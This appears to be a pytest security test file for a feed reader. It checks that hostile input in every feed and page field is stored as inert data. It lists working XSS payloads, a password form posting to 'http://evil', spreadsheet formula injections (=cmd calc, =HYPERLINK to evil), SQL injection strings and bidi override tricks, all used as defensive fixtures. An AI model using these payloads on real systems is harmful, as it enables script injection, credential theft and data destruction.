"""Hostile words in every field of a feed and its page: stored as data, shown as text, exported without effect."""

from __future__ import annotations

import csv
import io
import json
import logging
import unicodedata
from collections.abc import Iterator
from html import escape
from typing import Any

import pytest
from sqlalchemy import text

from schemas.entry import EntryState
from tests.attacks.cases import case, cases
from tests.attacks.desk import Desk
from tests.attacks.markup import TURNING, dangers, unisolated
from tests.newsroom import Newsroom, words
from wirecopy.cleaning.safehtml import safe_html
from wirecopy.ledger.tables import metadata
from wirecopy.log import Lines

MARKUP = {
    "content-xss-svg": "<svg onload=alert(1)>",
    "content-xss-img": "<img src=x onerror=alert(1)>",
    "content-xss-a-js": '<a href="javascript:alert(1)">',
    "content-xss-a-data": '<a href="data:text/html,<script>alert(1)</script>">',
    "content-xss-math": "<math><mtext></mtext><mglyph><svg><mtext><textarea>"
    '<path id="</textarea><img onerror=alert(1) src=1>">',
    "content-xss-comment": "<!--><img src=x onerror=alert(1)>-->",
    "content-xss-form": '<form action="http://evil"><input name=password>',
    "content-xss-entity-double": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "content-xss-cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "content-xss-category": '"onmouseover="alert(1)',
    "content-tracking-pixel": '<img width=1 height=1 src="http://t/">',
}


@pytest.fixture
def log() -> Iterator[io.StringIO]:
    """What wirecopy's services would write to their log meanwhile, all of it."""
    written = io.StringIO()
    handler = logging.StreamHandler(written)
    handler.setFormatter(Lines("%(levelname)s %(name)s: %(message)s"))
    root = logging.getLogger()
    before = root.level
    root.addHandler(handler)
    root.setLevel(logging.INFO)
    yield written
    root.setLevel(before)
    root.removeHandler(handler)


def publish(newsroom: Newsroom, path: str, payload: str) -> str:
    """A feed, and the page of its first entry, with the payload wherever words may stand. Gives the feed's address."""
    story = "".join(f"<p>{paragraph}</p>" for paragraph in words.paragraphs(path))
    quoted = escape(payload)
    data = json.dumps({"@type": "NewsArticle", "headline": payload, "author": {"name": payload}, "keywords": [payload]})
    newsroom.raw(
        f"{path}/page",
        f"""<!doctype html><html><head><title>{quoted} Ferry late</title><meta property="og:title" content="{quoted}">
        <meta name="author" content="{quoted}"><meta name="description" content="{quoted}">
        <meta property="article:section" content="{quoted}"><meta property="article:tag" content="{quoted}">
        <meta property="og:image" content="{quoted}"><link rel="canonical" href="{quoted}">
        <meta property="og:site_name" content="{quoted}"><html lang="{quoted}">
        <script type="application/ld+json">{data.replace("<", chr(92) + "u003c")}</script></head>
        <body><article><h1>{payload} Ferry late</h1><p>{payload}</p>{story}<p>{quoted}</p></article></body></html>""",
        headers={"Content-Type": "text/html; charset=utf-8"},
    )
    cdata = payload if payload.startswith("<![CDATA[") else f"<![CDATA[{payload}]]>"
    fields = f"<description>{cdata} The ferry to the island came in late, as it did on the day before.</description>"
    fields += f"<author>{quoted}</author><category>{quoted}</category><category>{cdata}</category>"
    fields += f"<content:encoded>{cdata}</content:encoded>"
    for name in ("enclosure", "media:thumbnail"):
        fields += f'<{name} url="{quoted}" type="{quoted}" length="{quoted}"/>'
    document = f"""<?xml version="1.0" encoding="utf-8"?>
        <rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
             xmlns:media="http://search.yahoo.com/mrss/">
        <channel><title>{quoted} News</title><link>{quoted}</link><language>{quoted}</language><ttl>{quoted}</ttl>
        <item><title>{quoted} Ferry late</title><link>{newsroom.url(path)}/page</link><guid>{path}/1 {quoted}</guid>
        {fields}<pubDate>{quoted}</pubDate></item>
        <item><title>{cdata} Ferry early</title><link>{quoted}</link><guid>{path}/2 {quoted}</guid>{fields}</item>
        <item><title>{quoted}</title><link>{newsroom.url(path)}/{quoted}</link>{fields}</item>
        </channel></rss>"""
    return newsroom.raw(
        path, document.encode("utf-8", "surrogatepass"), headers={"Content-Type": "application/rss+xml"}
    )


def addresses(told: Any, name: str = "") -> Iterator[str]:
    """Every address in an answer of the API."""
    if isinstance(told, dict):
        for inner, value in told.items():
            if inner != "fields":  # where each field came from
                yield from addresses(value, inner)
    elif isinstance(told, list):
        for value in told:
            yield from addresses(value, name)
    elif isinstance(told, str) and (name == "url" or name.endswith("_url")):
        yield told


def is_data(desk: Desk, feed_id: int) -> None:
    """What must hold of any feed's words, wherever they come out."""
    assert desk.feed(feed_id).failures == 0
    for entry in desk.entries(feed_id):
        assert entry.state is not EntryState.FAILED, entry.error
    assert desk.articles(feed_id)
    for path, html in desk.pages(feed_id).items():
        assert dangers(html) == [], path
        assert unisolated(html) == [], path
    for path, answer in desk.data(feed_id).items():
        if not path.endswith(".opml"):
            told = json.loads(answer)
            json.dumps(told, ensure_ascii=False).encode()  # no half pairs
            assert [url for url in addresses(told) if not url.startswith(("http://", "https://"))] == [], path
    table = desk.command("articles", "list", "--copies", "--feed", str(feed_id))
    assert not any(unicodedata.category(letter) == "Cc" or letter in TURNING for letter in table.replace("\n", ""))
    lines = desk.command("articles", "export", "--copies", "--feed", str(feed_id)).splitlines()
    assert [json.loads(line)["id"] for line in lines] == [article.id for article in desk.articles(feed_id)]
    sheet = desk.command("articles", "export", "--format", "csv", "--copies", "--feed", str(feed_id))
    rows = list(csv.reader(io.StringIO(sheet)))
    assert len(rows) == len(lines) + 1
    assert [cell for row in rows for cell in row if cell.lstrip()[:1] in ("=", "+", "-", "@")] == []


def is_of_lines(log: io.StringIO) -> None:
    written = log.getvalue()
    assert "wirecopy" in written or "fetcher" in written
    for line in written.splitlines():
        assert line.isprintable(), line
        assert line.startswith(("INFO ", "WARNING ", "ERROR ", "DEBUG ")), line


@cases(MARKUP)
def test_markup_in_any_field_is_data(payload, desks, newsroom, log, request, tmp_path):
    url = publish(newsroom, f"/content/{request.node.callspec.id}", payload)
    before = len(newsroom.requests_for("/x"))
    for desk in desks:
        feed_id = desk.read(url, articles=1)
        is_data(desk, feed_id)
        assert len(newsroom.requests_for("/x")) == before
    is_of_lines(log)
    # As HTML it leaves wirecopy only from the filter, and only what is on the list of the harmless.
    file = tmp_path / "feed.xml"
    file.write_bytes(newsroom._scripts[url.removeprefix(newsroom.origin)][0].body)
    parsed = json.loads(desks[0].command("parse", str(file)))
    for content in [entry["content_html"] or "" for entry in parsed["entries"]] + [safe_html(payload)]:
        assert [danger for danger in dangers(content) if not danger.startswith("<img")] == []
        assert "alert(1)" not in content or "<script" not in content
        assert "http://t/" not in content, "pictures that only count readers are left out"
    assert [url for url in addresses(parsed) if not url.startswith("http://")] == []


@case("content-bidi")
def test_marks_that_turn_the_reading_turn_nothing_beside_them(desks, newsroom, log):
    payload = "abc \u202egnp.exe \u2067x\u2066"
    for desk in desks:
        feed_id = desk.read(publish(newsroom, "/content/bidi", payload), articles=1)
        is_data(desk, feed_id)
        assert any("\u202e" in article.title for article in desk.articles(feed_id)), "stored as it was written"
    is_of_lines(log)


@case("content-zalgo")
def test_ten_thousand_combining_marks_are_cut(desks, newsroom, log):
    payload = "Z" + "\u0301\u0316" * 5000
    for desk in desks:
        feed_id = desk.read(publish(newsroom, "/content/zalgo", payload), articles=1)
        is_data(desk, feed_id)
        assert all(len(entry.item.title) <= 1000 for entry in desk.entries(feed_id))
        assert len(desk.feed(feed_id).title) <= 1000
        assert all(len(tag) <= 200 for entry in desk.entries(feed_id) for tag in entry.item.tags)


@case("content-emoji-astral")
def test_characters_of_four_bytes_come_out_as_they_went_in(desks, newsroom, log):
    payload = "👩‍👩‍👧‍👦 𝔉erry 🇺🇳 𠀀 \U0010fffd"
    for desk in desks:
        feed_id = desk.read(publish(newsroom, "/content/emoji", payload), articles=1)
        is_data(desk, feed_id)
        assert any(payload in entry.item.title for entry in desk.entries(feed_id))
        assert any("𝔉erry 🇺🇳 𠀀" in article.title for article in desk.articles(feed_id))
        assert any(payload in line for line in desk.data(feed_id)[f"/v1/entries?feed={feed_id}"].split("\n"))


@case("content-lone-surrogate")
def test_half_of_a_pair_is_replaced_and_stops_nothing(desks, newsroom, log):
    story = newsroom.article("/content/surrogate/story")
    about = "The ferry to the island came in late, as it did on the day before."
    written = [
        b"<rss><channel><title>&#xD800; T</title><item><title>Ferry &#xD800; late &#55357; &#xDC00;</title>"
        b"<guid>&#xD800;1</guid><description>"
        + about.encode()
        + b"</description><link>"
        + newsroom.url("/").encode()
        + b"&#xD800;</link></item>"
        b"</channel></rss>",
        b"<rss><channel><item><title>Ferry \xed\xa0\x80 late</title><description>" + about.encode() + b"</description>"
        b"<link>" + story.url.encode() + b"</link></item></channel></rss>",
        b'{"version": "https://jsonfeed.org/version/1.1", "title": "\\ud800", "items": [{"id": "\\ud800", '
        b'"title": "a \\ud83d b \\ude00\\ud83d\\ude00 \\\\ud800", "content_text": "\\udfff '
        + about.encode()
        + b'", "tags": ["\\udfff"]}]}',
    ]
    for number, document in enumerate(written):
        url = newsroom.raw(f"/content/surrogate/{number}", document)
        for desk in desks:
            feed_id = desk.read(url)
            (entry,) = desk.entries(feed_id)
            assert desk.feed(feed_id).failures == 0
            assert entry.state is not EntryState.FAILED
            for shown in (*desk.data(feed_id).values(), *desk.pages(feed_id).values()):
                shown.encode()
            if number == 2:
                assert entry.item.title == "a \ufffd b \ufffd\U0001f600 \\ud800"
    for desk in desks:
        assert (
            desk.web.post("/v1/feeds", content=b'{"url": "http://paper.example/\\ud800"}', headers=JSON).status_code
            == 422
        )
        answer = desk.web.post("/v1/feeds", content=b'{"url": "http://10.0.0.1/", "tags": ["\\ud800"]}', headers=JSON)
        assert answer.status_code == 422
    is_of_lines(log)


JSON = {"Content-Type": "application/json"}


@case("content-csv-formula")
def test_a_spreadsheet_runs_nothing(desks, newsroom, log):
    signs = ("=cmd|' /C calc'!A1", "+1+1", "-1+cmd", "@SUM(1)", "＝1+1", "\t=1", '=HYPERLINK("http://evil","x")')
    for number, payload in enumerate(signs):
        for desk in desks[: 1 if number else 2]:
            feed_id = desk.read(publish(newsroom, f"/content/csv/{number}", payload), articles=1)
            is_data(desk, feed_id)
            assert any(payload.strip() in article.title for article in desk.articles(feed_id)), "stored as it is"
            sheet = desk.command("articles", "export", "--format", "csv", "--copies", "--feed", str(feed_id))
            (heads, *rows) = csv.reader(io.StringIO(sheet))
            titles = [row[heads.index("title")] for row in rows]
            assert any(title.startswith(f"'{payload.strip()}") for title in titles)


@case("content-sql")
def test_quotes_end_no_statement(desks, newsroom, log):
    payload = "'); DROP TABLE articles;-- \" ; $$ \\'); DELETE FROM entries;-- %s %(x)s :name {0}"
    for desk in desks:
        feed_id = desk.read(publish(newsroom, "/content/sql", payload), articles=1)
        is_data(desk, feed_id)
        assert any("DROP TABLE articles" in article.title for article in desk.articles(feed_id))
        for query in (payload, "'", '"', "');--", "NEAR(", "* OR", "\\", "a AND NOT", "title:x", "{a}:b"):
            for path in ("/v1/articles", "/v1/feeds", "/articles", "/feeds"):
                assert desk.web.get(path, params={"q": query, "host": query}).status_code == 200, query
        with desk.ledger.read() as conn:
            for table in metadata.sorted_tables:
                conn.execute(text(f"SELECT count(*) FROM {table.name}"))
        assert desk.entries(feed_id)
    is_of_lines(log)
